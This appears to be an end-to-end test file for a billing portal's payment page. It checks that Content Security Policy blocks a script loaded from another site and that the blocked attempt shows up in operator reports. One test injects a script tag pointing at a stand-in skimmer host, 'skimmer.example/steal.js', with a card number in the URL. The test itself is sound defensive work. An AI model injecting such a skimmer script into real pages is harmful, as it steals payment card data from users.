import { expect, test } from '../journey.ts';
import { checkPages, pageReports } from '../portal/operator.ts';
import { beSignedInAs } from '../signed-in.ts';

test('a script of another site does not run on the page for paying, and the operator reads that it was tried', async ({
  page,
  expectErrors,
}) => {
  expectErrors(/Content Security Policy/);
  await beSignedInAs(page, 'past-due');
  await page.goto('PayBill');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Pay your bill');
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.src = 'https://skimmer.example/steal.js?card=4242';
    document.body.append(script);
  });
  await expect.poll(pageReports).toMatch(/ UTC {2}\/PayBill {2}script-src-elem {2}https:\/\/skimmer\.example {2}once/);
});

test('a look from outside finds every page, script, and header as released', async ({ baseURL }) => {
  expect(await checkPages(String(baseURL))).toMatch(
    /^As released: \d\d pages with their headers, \d{3} scripts and styles\.$/,
  );
});
